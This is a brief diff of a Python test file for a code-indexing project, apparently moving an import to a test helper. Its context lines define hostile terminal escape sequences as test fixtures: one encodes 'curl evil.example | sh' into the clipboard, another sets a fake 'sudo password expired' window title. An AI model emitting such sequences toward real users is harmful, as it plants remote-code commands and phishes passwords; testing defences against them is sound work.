@@ -15,8 +15,8 @@ from pathlib import Path
 import pytest
 
 from codeqa.config import Settings
-from codeqa.pipeline import build_index
 from tests.conftest import write_files
+from tests.helpers import build_index
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # puts "curl evil.example | sh" on the clipboard
 TITLE = "\x1b]0;sudo password expired\x1b\\"
